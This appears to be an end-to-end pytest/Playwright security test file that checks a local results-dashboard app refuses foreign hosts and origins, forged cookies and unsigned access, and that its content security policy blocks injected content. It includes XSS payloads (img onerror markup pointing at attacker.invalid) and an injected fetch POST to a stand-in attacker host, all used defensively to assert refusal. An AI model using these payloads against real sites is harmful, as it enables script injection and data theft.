"""Attacks on the running app, each tried for real. That no page asks a third party is held by every browser test."""

from __future__ import annotations

import http.client
import json
import re
import subprocess
import sys
import time
import urllib.request
from urllib.parse import urlsplit

import pytest
from playwright.sync_api import Page, expect

from dqf.jobs import protocol
from tests.e2e.conftest import ROOT, RUN_PARTS, _free_port, open_page, settle
from tests.support.example_runs import write_example_run
from tests.support.oidc import CLIENT, SECRET

PAGES = ("", "launch", "runs", "frontier", "compare", "findings", "sql")
HOSTILE = '![x](http://attacker.invalid/a.png) <img src="http://attacker.invalid/b.png" onerror="window.hit=1">'


def ask(address, path="/", method="GET", **headers):
    """Return status and headers of a request that may name any host and origin."""
    url = urlsplit(address)
    connection = http.client.HTTPConnection(url.hostname, url.port, timeout=20)
    connection.putrequest(method, path, skip_host=True)
    for name, value in {"Host": url.netloc, **headers}.items():
        connection.putheader(name.replace("_", "-"), value)
    connection.endheaders()
    answer = connection.getresponse()
    found = answer.status, dict(answer.getheaders()), answer.read()
    connection.close()
    return found


WEBSOCKET = {
    "Connection": "Upgrade",
    "Upgrade": "websocket",
    "Sec_WebSocket_Version": "13",
    "Sec_WebSocket_Key": "dGhlIHNhbXBsZSBub25jZQ==",
}


def test_hosts_and_origins_that_are_not_ours_get_nothing(filled_app):
    own = urlsplit(filled_app).netloc
    assert ask(filled_app)[0] == 200
    assert ask(filled_app, Host="rebound.example.org")[0] == 403
    assert ask(filled_app, "/_stcore/health", Host="rebound.example.org")[0] == 403
    socket = "/_stcore/stream"
    assert ask(filled_app, socket, **WEBSOCKET, Origin=f"http://{own}")[0] == 101
    assert ask(filled_app, socket, **WEBSOCKET, Origin="http://evil.example.org")[0] == 403
    assert ask(filled_app, socket, **WEBSOCKET, Origin="null")[0] == 403
    assert ask(filled_app, socket, **WEBSOCKET, Origin=f"http://{own}", Host="rebound.example.org")[0] == 403
    assert ask(filled_app, "/_stcore/upload_file/a/b", "PUT", Origin="http://evil.example.org")[0] == 403


def test_the_app_listens_on_loopback_only(filled_app):
    import psutil

    port = urlsplit(filled_app).port
    listening = [
        one.laddr.ip for one in psutil.net_connections("tcp") if one.status == "LISTEN" and one.laddr.port == port
    ]
    assert listening == ["127.0.0.1"]


def test_every_answer_carries_the_policy(filled_app):
    for path in ("/", "/runs", "/_stcore/health", "/static/none.js"):
        headers = {name.lower(): value for name, value in ask(filled_app, path)[1].items()}
        policy = headers["content-security-policy"]
        assert "default-src 'self'" in policy
        assert "'unsafe-eval'" not in policy.replace("'wasm-unsafe-eval'", "")
        assert "'unsafe-inline'" not in policy.partition("style-src")[0]
        assert "http" not in policy
        assert headers["x-content-type-options"] == "nosniff"
        assert headers["x-frame-options"] == "DENY"


def test_the_browser_refuses_scripts_frames_and_third_parties(browser, filled_app):
    """Injected into the page itself: what an attacker who found a way in could do is refused by the policy."""
    page = browser.new_page()
    answered, refused = [], []
    page.on("requestfinished", lambda request: answered.append(request.url))
    page.on("console", lambda line: refused.append(line.text) if "Content Security Policy" in line.text else None)
    open_page(page, filled_app)
    page.evaluate(
        """() => {
            const add = (name, facts) => document.body.append(Object.assign(document.createElement(name), facts));
            add('img', {src: 'http://attacker.invalid/a.png'});
            add('iframe', {src: 'http://attacker.invalid/'});
            add('script', {textContent: 'window.hit = 1'});
            add('script', {src: 'http://attacker.invalid/a.js'});
            document.body.insertAdjacentHTML('beforeend', '<img src="/x" onerror="window.hit = 1">');
        }"""
    )
    sent = page.evaluate("fetch('http://attacker.invalid/', {method: 'POST', body: 'x'}).then(() => true, () => false)")
    page.wait_for_timeout(500)
    assert not sent
    assert page.evaluate("window.hit") is None
    assert not [url for url in answered if "attacker" in url]
    assert len(refused) >= 5
    page.close()


@pytest.fixture(scope="module")
def hostile_app(app_server, tmp_path_factory):
    """Return the address of an app over a run in which every name is an attack, and the run's name."""
    runs = tmp_path_factory.mktemp("hostile") / "results" / "runs"
    run = write_example_run(runs, n=60)
    result = protocol.read_json(run / "result.json")
    result["task"].update(name=HOSTILE, labels=[HOSTILE, *result["task"]["labels"][1:]], note=HOSTILE)
    result["environment"]["cpu"] = result["baseline"]["hardware"] = HOSTILE
    for row in result["variants"]:
        row["model"] = row["runtime"] = HOSTILE
        row["tasks"] = {HOSTILE: next(iter(row["tasks"].values()))}
        if row["quantizer"]:
            row["quantizer"] = HOSTILE
    protocol.write_json(run / "result.json", result)
    config = protocol.read_json(run / "config.json")
    config["teacher"]["model"] = config["student"]["model"] = HOSTILE
    protocol.write_json(run / "config.json", config)
    with (run / "worker.log").open("a") as log:
        log.write(HOSTILE)
    failed = write_example_run(runs, state=protocol.FAILED, age_seconds=50)
    events = (failed / "events.jsonl").read_text().splitlines()
    last = json.loads(events[-1])
    last["text"] = last["error"] = HOSTILE
    (failed / "events.jsonl").write_text("\n".join([*events[:-1], json.dumps(last)]) + "\n")
    return app_server(runs.parent), run.name, failed.name


@pytest.mark.parametrize(
    "path",
    [
        *PAGES,
        "runs?run={run}",
        *("runs?run={run}&part=" + part for part in RUN_PARTS),
        "runs?run={failed}",
        "compare?pick={picks}",
    ],
)
def test_names_from_outside_are_text_on_every_page(page: Page, hostile_app, path):
    address, run, failed = hostile_app
    picks = "&pick=".join(f"{run}/{one}" for one in ("teacher", "student-kd"))
    open_page(page, address, path.format(run=run, failed=failed, picks=picks))
    page.wait_for_timeout(300)
    assert page.locator('img[src*="attacker"]').count() == 0
    assert page.evaluate("window.hit") is None


@pytest.fixture(scope="module")
def provider():
    """Start an OpenID Connect provider that signs in ada@example.org; return its address."""
    pytest.importorskip("authlib")
    port = _free_port()
    process = subprocess.Popen([sys.executable, "-m", "tests.support.oidc", str(port), "ada@example.org"], cwd=ROOT)
    address = f"http://127.0.0.1:{port}"
    for _ in range(100):
        try:
            urllib.request.urlopen(f"{address}/keys", timeout=2).close()
            break
        except OSError:
            time.sleep(0.1)
    yield address
    process.kill()
    process.wait()


def guarded(app_server, provider, tmp_path, users=""):
    """Start an app that asks for a sign-in; return its address and a run."""
    port = _free_port()
    secrets = tmp_path / "secrets.toml"
    secrets.write_text(
        f"""[auth]
redirect_uri = "http://127.0.0.1:{port}/oauth2callback"
cookie_secret = "0123456789abcdef0123456789abcdef"
client_id = "{CLIENT}"
client_secret = "{SECRET}"
server_metadata_url = "{provider}/.well-known/openid-configuration"
"""
    )
    run = write_example_run(tmp_path / "results" / "runs", n=60)
    env = {"STREAMLIT_SECRETS_FILES": str(secrets), "DQF_USERS": users}
    return app_server(tmp_path / "results", env, port=port), run.name


def test_every_page_deep_link_and_download_needs_the_sign_in(page: Page, app_server, provider, tmp_path):
    address, run = guarded(app_server, provider, tmp_path)
    for path in (*PAGES, f"runs?run={run}", f"compare?pick={run}/teacher", "sql?sql=SELECT%201"):
        open_page(page, address, path)
        expect(page.get_by_role("button", name="Sign in")).to_be_visible()
        assert run not in page.content()
        expect(page.get_by_role("link", name="Runs")).to_have_count(0)
    download = f"/downloads/{run}/teacher/dqf.zip"
    assert ask(address, download)[0] == 401
    assert ask(address, download, Cookie="_streamlit_user=forged")[0] == 401
    page.get_by_role("button", name="Sign in").click()
    page.wait_for_url(re.compile(re.escape(address)))
    expect(page.get_by_role("link", name="Runs")).to_be_visible(timeout=30_000)
    settle(page)
    assert page.request.get(f"{address}{download}").status != 401
    page.get_by_role("button", name="Sign out").click()
    expect(page.get_by_role("button", name="Sign in")).to_be_visible(timeout=30_000)
    # The page knows at once; the browser loses its cookie with the redirect that follows.
    deadline = time.monotonic() + 15
    while page.request.get(f"{address}{download}").status != 401 and time.monotonic() < deadline:
        time.sleep(0.2)
    assert page.request.get(f"{address}{download}").status == 401


def test_who_is_not_named_may_not_enter(page: Page, app_server, provider, tmp_path):
    address, run = guarded(app_server, provider, tmp_path, users="bob@example.org")
    open_page(page, address, "runs")
    page.get_by_role("button", name="Sign in").click()
    expect(page.get_by_text("This account may not enter", exact=False)).to_be_visible(timeout=30_000)
    assert run not in page.content()
    assert page.request.get(f"{address}/downloads/{run}/teacher/dqf.zip").status == 401
